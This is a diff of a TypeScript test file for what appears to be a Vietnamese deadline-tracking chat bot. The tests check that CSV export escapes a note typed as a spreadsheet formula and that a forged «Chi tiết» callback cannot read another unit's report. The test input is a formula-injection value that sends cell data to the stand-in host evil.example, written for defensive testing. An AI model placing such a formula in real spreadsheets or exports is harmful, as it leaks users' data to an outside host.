@@ -241,16 +241,15 @@ describe('deadlines in chat', () => {
     expect((await say('ngoc', '/huy')).plainText).toContain('Đã hủy');
   });
 
-  it('shows «Chi tiết» of a shared deadline only for the viewer\'s own units, and exports a typed formula as text', async () => {
+  it('exports a note typed as a spreadsheet formula as text in deadline status --csv (M6)', async () => {
     await outboxDrained(h.db);
     const created = await run('deadline', 'add', '--title', 'Báo cáo công tác dân vận quý I', '--due', '25/01/2027',
       '--units', 'CB1-BTG,CB1-MT', '--doc', '3080-CV/BTGTU', '--by', P.binh.phone);
     expect(created.code, created.err).toBe(0);
     const id = Number(created.out.split('\n')[0]);
     const cb1 = await unitId(h.database, 'CB1-BTG');
-    const mt = await unitId(h.database, 'CB1-MT');
     const toHanh = await h.emulator.waitUntil(() => h.emulator.messagesTo(P.hanh.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')));
-    const toNgoc = await h.emulator.waitUntil(() => h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')));
+    await h.emulator.waitUntil(() => h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')));
 
     // Hạnh reports and types a spreadsheet formula as the note (M6).
     const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Chi tiết")';
@@ -260,9 +259,16 @@ describe('deadlines in chat', () => {
     expect(csv.code, csv.err).toBe(0);
     const line = csv.out.split('\n').find((l) => l.startsWith('CB1-BTG,'))!;
     expect(line.endsWith(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Chi tiết"")"`)).toBe(true);
+    // The note's edit is audited with its value before and after.
     const noteAudit = await h.db.auditLog.findFirstOrThrow({ where: { action: 'deadline.report_note', target: `deadline:${id}:unit:CB1-BTG` } });
     expect(noteAudit.details).toEqual({ before: null, after: formula });
+  });
 
+  it('shows «Chi tiết» of a shared deadline only for the viewer\'s own units (L3)', async () => {
+    const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
+    const cb1 = await unitId(h.database, 'CB1-BTG');
+    const mt = await unitId(h.database, 'CB1-MT');
+    const toNgoc = h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I'))!;
     // F4: Ngọc (CB1-MT) forges «Chi tiết» for CB1-BTG: the deadline, but not Hạnh's report.
     const forged = await press('ngoc', toNgoc, `dl:info:${id}:${cb1}`, true, true);
     expect(forged.next!.plainText).toContain('Báo cáo công tác dân vận quý I');
